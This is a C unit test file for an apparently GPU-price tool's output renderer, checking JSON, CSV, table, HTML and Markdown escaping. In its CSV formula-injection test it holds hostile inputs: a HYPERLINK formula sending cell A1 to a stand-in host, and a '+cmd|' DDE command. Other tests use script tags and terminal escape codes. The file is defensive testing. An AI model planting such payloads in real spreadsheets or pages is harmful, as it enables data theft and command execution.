/* test_render.c - JSON, CSV, NDJSON, table and Markdown output. */
#include "testutil.h"

#include <math.h>

#include "gpucmp/render.h"
#include "sqlite_int.h"

static sqlite3 *db;

static int setup(void **state)
{
	(void)state;
	return sqlite3_open(":memory:", &db) == SQLITE_OK ? 0 : -1;
}

static int teardown(void **state)
{
	(void)state;
	sqlite3_close(db);
	return 0;
}

/* Render the rows of `sql` (columns: provider, gpu_count, price_hr,
 * available, k8s) in `fmt` and return the output (caller frees). */
static char *render_sql(const char *sql, enum render_format fmt, int width)
{
	static const char *const keys[] = {"provider", "gpu_count", "price_hr", "available", "k8s"};
	const struct field *cols[5];
	for (int i = 0; i < 5; i++)
		cols[i] = field_find(keys[i]);
	char *out = NULL;
	size_t len = 0;
	FILE *f = open_memstream(&out, &len);
	assert_non_null(f);
	struct render_spec spec = {.format = fmt, .cols = cols, .ncols = 5, .out = f,
				   .width = width};
	struct renderer *r;
	char *err = NULL;
	assert_int_equal(render_begin(&r, &spec, &err), GC_OK);
	sqlite3_stmt *s;
	assert_int_equal(sqlite3_prepare_v2(db, sql, -1, &s, NULL), SQLITE_OK);
	while (sqlite3_step(s) == SQLITE_ROW)
		assert_int_equal(render_row(r, s, &err), GC_OK);
	sqlite3_finalize(s);
	size_t rows;
	assert_int_equal(render_end(r, &rows, &err), GC_OK);
	fclose(f);
	return out;
}

static const char rows_sql[] =
	"SELECT 'say \"hi\"\\' , 8, 2.35, 1, 'managed' UNION ALL "
	"SELECT 'ctl' || char(27) || '[31m', 0.333, NULL, NULL, 'unknown' UNION ALL "
	"SELECT 'a,b', 1, 14.94, 0, 'both'";

static void test_json(void **state)
{
	(void)state;
	char *out = render_sql(rows_sql, RF_JSON, 0);
	assert_string_equal(
		out,
		"[\n"
		"{\"provider\":\"say \\\"hi\\\"\\\\\",\"gpu_count\":8,\"price_hr\":2.35,"
		"\"available\":true,\"k8s\":\"managed\"},\n"
		"{\"provider\":\"ctl\\u001b[31m\",\"gpu_count\":0.333,\"price_hr\":null,"
		"\"available\":null,\"k8s\":\"unknown\"},\n"
		"{\"provider\":\"a,b\",\"gpu_count\":1,\"price_hr\":14.94,\"available\":false,"
		"\"k8s\":\"both\"}\n"
		"]\n");
	free(out);
	out = render_sql("SELECT 'x', 1, 1, 1, 'none' WHERE 0", RF_JSON, 0);
	assert_string_equal(out, "[]\n");
	free(out);
}

static void test_ndjson_and_csv(void **state)
{
	(void)state;
	char *out = render_sql(rows_sql, RF_NDJSON, 0);
	size_t lines = 0;
	for (char *p = out; *p; p++)
		lines += *p == '\n';
	assert_int_equal(lines, 3);
	assert_int_equal(strncmp(out, "{\"provider\":", 12), 0);
	free(out);
	out = render_sql(rows_sql, RF_CSV, 0);
	assert_string_equal(out,
		"provider,gpu_count,price_hr,available,k8s\n"
		"\"say \"\"hi\"\"\\\",8,2.35,true,managed\n"
		"ctl?[31m,0.333,,,unknown\n"
		"\"a,b\",1,14.94,false,both\n");
	free(out);
	out = render_sql("SELECT 'x', 1, 1, 1, 'none' WHERE 0", RF_CSV, 0);
	assert_string_equal(out, "provider,gpu_count,price_hr,available,k8s\n");
	free(out);
}

/* CSV formula injection (OWASP): a text cell starting with =, +, -, @, a
 * tab or a CR gets a leading ', so a spreadsheet shows it as text instead
 * of running it; numbers, negative ones too, are not text cells. */
static void test_csv_formula_cells(void **state)
{
	(void)state;
	char *out = render_sql(
		"SELECT '=HYPERLINK(\"http://x.invalid/?\"&A1,\"y\")', -2, -1.5, 1, 'none' "
		"UNION ALL "
		"SELECT '+cmd|''/C calc''!A0', 1, 2, 0, 'none' UNION ALL "
		"SELECT '@SUM(1+1)', 1, 2, 0, 'none' UNION ALL "
		"SELECT '-2+3', 1, 2, 0, 'none' UNION ALL "
		"SELECT char(9) || '=1+2', 1, 2, 0, 'none' UNION ALL "
		"SELECT char(13) || '=1+2', 1, 2, 0, 'none' UNION ALL "
		"SELECT 'a=b+c', 1, 2, 0, 'none' UNION ALL "
		"SELECT '=' || printf('%.600c', 'x'), 1, 2, 0, 'none'", RF_CSV, 0);
	char *want = NULL;
	size_t len = 0;
	FILE *f = open_memstream(&want, &len);
	assert_non_null(f);
	fprintf(f, "provider,gpu_count,price_hr,available,k8s\n"
		   "\"'=HYPERLINK(\"\"http://x.invalid/?\"\"&A1,\"\"y\"\")\",-2,-1.5,true,none\n"
		   "'+cmd|'/C calc'!A0,1,2,false,none\n"
		   "'@SUM(1+1),1,2,false,none\n"
		   "'-2+3,1,2,false,none\n"
		   "'?=1+2,1,2,false,none\n"
		   "'?=1+2,1,2,false,none\n" /* a CR is '?' in any cell */
		   "a=b+c,1,2,false,none\n"
		   "'=");
	for (int i = 0; i < 600; i++) /* longer than the cell buffer */
		fputc('x', f);
	fputs(",1,2,false,none\n", f);
	fclose(f);
	assert_string_equal(out, want);
	free(want);
	free(out);
}

static void test_table(void **state)
{
	(void)state;
	char *out = render_sql(rows_sql, RF_TABLE, 0);
	assert_string_equal(out,
		"PROVIDER    GPUS     $/H  AVAIL  K8S\n"
		"say \"hi\"\\      8   $2.35  yes    managed\n"
		"ctl?[31m   0.333       -  ?      ?\n"
		"a,b            1  $14.94  no     both\n");
	free(out);
	/* narrower than the table: the least important columns go first */
	out = render_sql(rows_sql, RF_TABLE, 30);
	assert_null(strstr(out, "AVAIL"));
	char *save = NULL;
	for (char *line = strtok_r(out, "\n", &save); line; line = strtok_r(NULL, "\n", &save))
		assert_true(render_width(line) <= 30);
	free(out);
	out = render_sql("SELECT 'x', 1, 1, 1, 'none' WHERE 0", RF_TABLE, 0);
	assert_string_equal(out, "");
	free(out);
}

static void test_fit_and_width(void **state)
{
	(void)state;
	assert_int_equal(render_width("caf\xc3\xa9"), 4);
	struct buf b;
	buf_init(&b, 0);
	assert_int_equal(render_fit(&b, "Stra\xc3\x9f" "e 12", 5), GC_OK);
	assert_string_equal(b.ptr, "Stra\xe2\x80\xa6");
	assert_int_equal(render_width(b.ptr), 5);
	buf_reset(&b);
	assert_int_equal(render_fit(&b, "short", 10), GC_OK);
	assert_string_equal(b.ptr, "short");
	/* wide characters take two cells and are never cut in half */
	buf_reset(&b);
	assert_int_equal(render_width("\xe6\x97\xa5\xe6\x9c\xac"), 4); /* 日本 */
	assert_int_equal(render_fit(&b, "\xe6\x97\xa5\xe6\x9c\xac\xe8\xaa\x9e-gpu", 4), GC_OK);
	/* 日… : 3 cells, not 日本 + … */
	assert_string_equal(b.ptr, "\xe6\x97\xa5\xe2\x80\xa6");
	/* a combining mark takes none and stays with its letter */
	buf_reset(&b);
	assert_int_equal(render_width("Cafe\xcc\x81 Noir"), 9);
	assert_int_equal(render_fit(&b, "Cafe\xcc\x81 Noir", 5), GC_OK);
	assert_string_equal(b.ptr, "Cafe\xcc\x81\xe2\x80\xa6");
	/* an invalid byte counts one cell */
	assert_int_equal(render_width("a\xff" "b"), 3);
	buf_free(&b);
	buf_init(&b, 0);
	render_json_string(&b, "bad\xff utf8 \xe2\x82");
	assert_string_equal(b.ptr, "\"bad\xef\xbf\xbd utf8 \xef\xbf\xbd\xef\xbf\xbd\"");
	buf_reset(&b);
	render_json_number(&b, 1e300 * 1e300);
	assert_string_equal(b.ptr, "null");
	buf_free(&b);
}

/* C1 controls (U+0080-U+009F; U+009B is CSI, a terminal escape in one
 * character) and DEL are escaped in JSON and NDJSON, and '?' in CSV and
 * table cells, even though the cache should never hold them. */
static void test_control_escapes(void **state)
{
	(void)state;
	struct buf b;
	buf_init(&b, 0);
	static const struct {
		const char *in, *out;
	} cases[] = {
		{"csi\xc2\x9b[2J", "\"csi\\u009b[2J\""},
		{"\xc2\x80\xc2\x85\xc2\x9f", "\"\\u0080\\u0085\\u009f\""},
		{"del\x7f", "\"del\\u007f\""},
		{"esc\x1b", "\"esc\\u001b\""},
		{"nbsp\xc2\xa0 e\xcc\x81", "\"nbsp\xc2\xa0 e\xcc\x81\""},
		{"half\xc2", "\"half\xef\xbf\xbd\""},
	};
	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		buf_reset(&b);
		assert_int_equal(render_json_string(&b, cases[i].in), GC_OK);
		assert_string_equal(b.ptr, cases[i].out);
	}
	buf_free(&b);
	const char *sql = "SELECT 'c1' || char(155) || '[2J' || char(127), 1, 2, 1, 'none'";
	static const struct {
		enum render_format fmt;
		const char *want;
	} outs[] = {
		{RF_JSON, "\"c1\\u009b[2J\\u007f\""},
		{RF_NDJSON, "\"c1\\u009b[2J\\u007f\""},
		{RF_CSV, "\nc1?[2J?,"},
		{RF_TABLE, "\nc1?[2J? "},
	};
	for (size_t i = 0; i < sizeof outs / sizeof outs[0]; i++) {
		char *out = render_sql(sql, outs[i].fmt, 0);
		if (!strstr(out, outs[i].want) || strstr(out, "\xc2\x9b") || strchr(out, 0x7f))
			fail_msg("format %d: %s", (int)outs[i].fmt, out);
		free(out);
	}
}

/* HTML: every text through render_html, so a provider's <script> is text;
 * each cell's data-v holds the value as JSON reads it, left out where the
 * text says the same. */
static void test_html(void **state)
{
	(void)state;
	struct buf b;
	buf_init(&b, 0);
	assert_int_equal(render_html(&b, "<script>alert('x&y\")</script>\x1b[2J\xc2\x9b\xff"),
			 GC_OK);
	assert_string_equal(b.ptr, "&lt;script&gt;alert(&#39;x&amp;y&quot;)&lt;/script&gt;?[2J?"
				   "\xef\xbf\xbd");
	buf_free(&b);
	char *out = render_sql("SELECT '<script>x</script>', 8, 2.35, 1, 'managed' UNION ALL "
			       "SELECT 'a\"b', 0.5, NULL, NULL, 'unknown'", RF_HTML, 0);
	assert_string_equal(out,
		"<tr><td>&lt;script&gt;x&lt;/script&gt;</td><td>8</td><td data-v=\"2.35\">$2.35"
		"</td><td data-v=\"true\">yes</td><td>managed</td></tr>\n"
		"<tr><td>a&quot;b</td><td>0.5</td><td class=u data-v=\"\">-</td>"
		"<td class=u data-v=\"\">?</td><td class=u data-v=\"unknown\">?</td></tr>\n");
	assert_null(strstr(out, "<script>"));
	free(out);
	/* html_break: written once, after its row */
	const struct field *cols[1] = {field_find("provider")};
	char *buf = NULL;
	size_t len = 0;
	FILE *f = open_memstream(&buf, &len);
	struct render_spec spec = {.format = RF_HTML, .cols = cols, .ncols = 1, .out = f,
				   .html_break_at = 2, .html_break = "<!--b-->\n"};
	struct renderer *r;
	assert_int_equal(render_begin(&r, &spec, NULL), GC_OK);
	for (int i = 0; i < 3; i++)
		assert_int_equal(render_row_values(r, (struct render_value[]){RV_TEXT("p")}, NULL),
				 GC_OK);
	assert_int_equal(render_end(r, NULL, NULL), GC_OK);
	fclose(f);
	assert_string_equal(buf, "<tr><td>p</td></tr>\n<tr><td>p</td></tr>\n<!--b-->\n"
				 "<tr><td>p</td></tr>\n");
	free(buf);
}

/* JSON that jansson wrote (show, compare, config, refresh --json): DEL
 * and C1 controls inside strings come out escaped; the rest unchanged. */
static void test_json_write(void **state)
{
	(void)state;
	static const struct {
		const char *in, *out;
	} cases[] = {
		{ "{\"sku\":\"a\xc2\x9b[2J\"}", "{\"sku\":\"a\\u009b[2J\"}" },
		{ "[\"\x7f\",\"\xc2\x80\xc2\x9f\xc2\xa0\"]",
		  "[\"\\u007f\",\"\\u0080\\u009f\xc2\xa0\"]" },
		{ "\"caf\xc3\xa9 \xe2\x80\xa6\"", "\"caf\xc3\xa9 \xe2\x80\xa6\"" },
		{ "\"ends\xc2", "\"ends\xc2" },
		{ "", "" },
	};
	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		char *out = NULL;
		size_t len = 0;
		FILE *f = open_memstream(&out, &len);
		assert_non_null(f);
		assert_int_equal(render_json_write(f, cases[i].in, strlen(cases[i].in)), 0);
		fclose(f);
		assert_string_equal(out, cases[i].out);
		free(out);
	}
}

/* --- rows as values (gpus, providers, cache status, recommend) ------------ */

enum { V_NAME, V_N, V_PRICE, V_OK, V_MODE, V_IMAGE, V_TAGS, V_COUNT };

static const struct field vfields[V_COUNT] = {
	[V_NAME] = RENDER_COL("name", "NAME", FT_TEXT, 1),
	[V_N] = RENDER_COL("n", "N", FT_NUM, 1),
	[V_PRICE] = RENDER_COL("price", "FROM $/H", FT_PRICE, 1),
	[V_OK] = RENDER_COL("ok", "OK", FT_BOOL, 3),
	[V_MODE] = RENDER_COL("mode", "MODE", FT_ENUM, 2),
	[V_IMAGE] = RENDER_COL("image", "IMAGE", FT_YESNO, 2),
	[V_TAGS] = RENDER_COL("tags", "TAGS", FT_TEXT, 0),
};

static const char *const tags[] = {"a", "b\"c"};
static const struct render_nest two_tags = {2, tags, NULL, 0, NULL};
static const struct render_nest no_tags = {0, NULL, NULL, 0, NULL};

/* Three rows: text that needs escaping, nulls of every type, a plain one;
 * rendered with the columns render_pick chooses for fmt. */
static char *render_vals(enum render_format fmt, int width, int color, const char *null_text)
{
	struct render_value rows[3][V_COUNT] = {
		{RV_TEXT("say \"hi\"\n,x"), RV_NUM(8), RV_NUM(2.35), RV_NUM(1),
		 RV_TEXT("managed"), RV_TEXT("yes"), {.nest = &two_tags}},
		{RV_TEXT(NULL), RV_NUM(NAN), RV_NUM(NAN), RV_NUM(NAN), RV_TEXT("unknown"),
		 RV_TEXT("unknown"), {.nest = &no_tags}},
		{RV_TEXT("c1\xc2\x9b"), RV_NUM(0.333), RV_NUM(14.94), RV_NUM(0), RV_TEXT(NULL),
		 RV_TEXT("no"), {.nest = &no_tags}},
	};
	const struct field *cols[V_COUNT];
	char *out = NULL;
	size_t len = 0;
	FILE *f = open_memstream(&out, &len);
	assert_non_null(f);
	struct render_spec spec = {.format = fmt, .cols = cols, .out = f, .color = color,
				   .width = width, .fields = vfields, .json_indent = 2,
				   .plain_none = 1, .null_text = null_text};
	spec.ncols = render_pick(vfields, V_COUNT, fmt, cols);
	struct renderer *r;
	char *err = NULL;
	assert_int_equal(render_begin(&r, &spec, &err), GC_OK);
	for (size_t i = 0; i < 3; i++)
		assert_int_equal(render_row_values(r, rows[i], &err), GC_OK);
	size_t n;
	assert_int_equal(render_end(r, &n, &err), GC_OK);
	assert_int_equal(n, 3);
	fclose(f);
	return out;
}

/* JSON indented like jansson's JSON_INDENT(2): every field, null for a
 * NULL text or a NAN number, yes/no as true/false, nested arrays. */
static void test_values_json(void **state)
{
	(void)state;
	char *out = render_vals(RF_JSON, 0, 0, NULL);
	assert_string_equal(out,
		"[\n"
		"  {\n"
		"    \"name\": \"say \\\"hi\\\"\\u000a,x\",\n"
		"    \"n\": 8,\n"
		"    \"price\": 2.35,\n"
		"    \"ok\": true,\n"
		"    \"mode\": \"managed\",\n"
		"    \"image\": true,\n"
		"    \"tags\": [\n"
		"      \"a\",\n"
		"      \"b\\\"c\"\n"
		"    ]\n"
		"  },\n"
		"  {\n"
		"    \"name\": null,\n"
		"    \"n\": null,\n"
		"    \"price\": null,\n"
		"    \"ok\": null,\n"
		"    \"mode\": \"unknown\",\n"
		"    \"image\": null,\n"
		"    \"tags\": []\n"
		"  },\n"
		"  {\n"
		"    \"name\": \"c1\\u009b\",\n"
		"    \"n\": 0.333,\n"
		"    \"price\": 14.94,\n"
		"    \"ok\": false,\n"
		"    \"mode\": null,\n"
		"    \"image\": false,\n"
		"    \"tags\": []\n"
		"  }\n"
		"]\n");
	free(out);
	out = render_vals(RF_NDJSON, 0, 0, NULL);
	assert_string_equal(out,
		"{\"name\":\"say \\\"hi\\\"\\u000a,x\",\"n\":8,\"price\":2.35,\"ok\":true,"
		"\"mode\":\"managed\",\"image\":true,\"tags\":[\"a\",\"b\\\"c\"]}\n"
		"{\"name\":null,\"n\":null,\"price\":null,\"ok\":null,\"mode\":\"unknown\","
		"\"image\":null,\"tags\":[]}\n"
		"{\"name\":\"c1\\u009b\",\"n\":0.333,\"price\":14.94,\"ok\":false,"
		"\"mode\":null,\"image\":false,\"tags\":[]}\n");
	free(out);
}

/* CSV and tables show the ranked fields; null is an empty CSV cell, in a
 * table the null text for a yes/no or an unknown enum and "-" for the rest. */
static void test_values_csv_table(void **state)
{
	(void)state;
	char *out = render_vals(RF_CSV, 0, 0, NULL);
	assert_string_equal(out,
		"name,n,price,ok,mode,image\n"
		"\"say \"\"hi\"\"?,x\",8,2.35,true,managed,yes\n"
		",,,,unknown,unknown\n"
		"c1?,0.333,14.94,false,,no\n");
	free(out);
	out = render_vals(RF_TABLE, 0, 0, "n/a");
	assert_string_equal(out,
		"NAME             N  FROM $/H  OK   MODE     IMAGE\n"
		"say \"hi\"?,x      8     $2.35  yes  managed  yes\n"
		"-                -         -  n/a  n/a      n/a\n"
		"c1?          0.333    $14.94  no   -        no\n");
	free(out);
	/* narrow: OK (rank 3) goes first, then MODE and IMAGE (rank 2), */
	out = render_vals(RF_TABLE, 44, 0, NULL);
	assert_null(strstr(out, "OK"));
	assert_non_null(strstr(out, "MODE     IMAGE\n"));
	free(out);
	/* then the widest text column is shortened */
	out = render_vals(RF_TABLE, 26, 0, NULL);
	assert_string_equal(out,
		"NAME           N  FROM $/H\n"
		"say \"hi\"\xe2\x80\xa6      8     $2.35\n"
		"-              -         -\n"
		"c1?        0.333    $14.94\n");
	free(out);
	/* with plain_none a "-" is not dimmed; an unknown is */
	out = render_vals(RF_TABLE, 0, 1, NULL);
	assert_non_null(strstr(out, "\033[2m?\033[0m"));
	assert_null(strstr(out, "\033[2m-"));
	free(out);
}

static void copy_row(void *ctx, size_t i, struct render_value *v)
{
	(void)i;
	memcpy(v, ctx, 2 * sizeof *v);
}

/* Shown text replaces the typed form in tables and CSV, never JSON; a
 * nested array of objects prints as one line in a table and CSV. */
static void test_values_shown_nested(void **state)
{
	(void)state;
	static const struct field f[] = {RENDER_COL("age", "AGE", FT_NUM, 1),
					 RENDER_COL("why", "WHY", FT_TEXT, 1)};
	static const struct field *const sub[] = {&f[1], &f[0]}; /* {why, age} */
	struct render_value reasons[2][2] = {{RV_TEXT("+"), RV_NUM(1)},
					     {RV_TEXT("-"), RV_NUM(2.5)}};
	struct render_nest why = {2, NULL, sub, 2, &reasons[0][0]};
	struct render_value row[2] = {{.num = 7200, .shown = "2 h"}, {.nest = &why}};
	const struct field *cols[] = {&f[0], &f[1]};
	static const struct {
		enum render_format fmt;
		const char *want;
	} cases[] = {
		{RF_TABLE, "AGE  WHY\n2 h  + 1; - 2.5\n"},
		{RF_CSV, "age,why\n2 h,'+ 1; - 2.5\n"}, /* text that looks like a formula */
		{RF_NDJSON, "{\"age\":7200,\"why\":[{\"why\":\"+\",\"age\":1},"
			    "{\"why\":\"-\",\"age\":2.5}]}\n"},
	};
	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		char *out = NULL;
		size_t len = 0;
		FILE *o = open_memstream(&out, &len);
		assert_non_null(o);
		struct render_spec spec = {.format = cases[i].fmt, .cols = cols, .ncols = 2,
					   .out = o};
		char *err = NULL;
		assert_int_equal(render_rows(&spec, 1, copy_row, row, &err), GC_OK);
		fclose(o);
		assert_string_equal(out, cases[i].want);
		free(out);
	}
}

/* A currency for tables: its sign, units per USD and the footer's note;
 * USD is the zero money, an unknown code a usage error. */
static void test_money_for(void **state)
{
	(void)state;
	struct money m;
	char note[96], *err = NULL;
	assert_int_equal(render_money_for("EUR", &m, note, sizeof note, &err), GC_OK);
	assert_string_equal(m.symbol, "\xE2\x82\xAC");
	assert_true(m.per_usd > 0.5 && m.per_usd < 2);
	assert_non_null(strstr(note, "prices in EUR at 1 EUR = "));
	char cell[32];
	render_money(cell, sizeof cell, 10.0, &m);
	assert_non_null(strstr(cell, "\xE2\x82\xAC"));
	assert_int_equal(render_money_for("USD", &m, note, sizeof note, &err), GC_OK);
	assert_string_equal(m.symbol, "");
	assert_string_equal(note, "");
	assert_int_equal(render_money_for("XYZ", &m, note, sizeof note, &err), GC_EUSAGE);
	assert_non_null(strstr(err, "currency 'XYZ' is not in the exchange-rate table"));
	free(err);
}

/* Markdown: a GitHub-flavoured table of the cells a table shows; '|' and
 * '\' escaped, a newline or ESC '?' (str_sanitize), ---: over numbers, no
 * padding, no colour, no cut at a narrow width. */
static void test_markdown(void **state)
{
	(void)state;
	char *out = render_sql("SELECT 'a|b\\c' || char(10) || 'd' || char(27), 8, 2.35, 1, "
			       "'managed' UNION ALL SELECT 'plain', NULL, NULL, NULL, 'unknown'",
			       RF_MARKDOWN, 10);
	assert_string_equal(out, "| PROVIDER | GPUS | $/H | AVAIL | K8S |\n"
				 "|---|---:|---:|---|---|\n"
				 "| a\\|b\\\\c?d? | 8 | $2.35 | yes | managed |\n"
				 "| plain | - | - | ? | ? |\n");
	free(out);
	out = render_sql("SELECT 'x', 1, 1, 1, 'none' WHERE 0", RF_MARKDOWN, 0);
	assert_string_equal(out, ""); /* as a table: the caller says why */
	free(out);
}

/* The list of formats: one entry per enum value in its order, names
 * found by name, html no --format choice, for people as documented. */
static void test_formats(void **state)
{
	(void)state;
	size_t n = 0;
	for (const struct render_format_def *d = render_formats; d->name; d++, n++) {
		assert_int_equal(d->format, n);
		assert_ptr_equal(render_format_named(d->name), d);
		assert_non_null(d->desc);
	}
	assert_int_equal(n, RF_COUNT);
	assert_null(render_format_named("yaml"));
	assert_null(render_format_named(NULL));
	assert_false(render_format_named("html")->cli);
	assert_true(render_format_named("markdown")->cli);
	assert_true(render_for_people(RF_TABLE));
	assert_true(render_for_people(RF_MARKDOWN));
	assert_false(render_for_people(RF_JSON));
	assert_false(render_for_people(RF_CSV));
	assert_false(render_for_people(RF_NDJSON));
	assert_false(render_for_people(RF_COUNT));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_json),
		cmocka_unit_test(test_money_for),
		cmocka_unit_test(test_ndjson_and_csv),
		cmocka_unit_test(test_csv_formula_cells),
		cmocka_unit_test(test_control_escapes),
		cmocka_unit_test(test_json_write),
		cmocka_unit_test(test_html),
		cmocka_unit_test(test_table),
		cmocka_unit_test(test_fit_and_width),
		cmocka_unit_test(test_values_json),
		cmocka_unit_test(test_values_csv_table),
		cmocka_unit_test(test_values_shown_nested),
		cmocka_unit_test(test_markdown),
		cmocka_unit_test(test_formats),
	};
	return cmocka_run_group_tests(tests, setup, teardown);
}
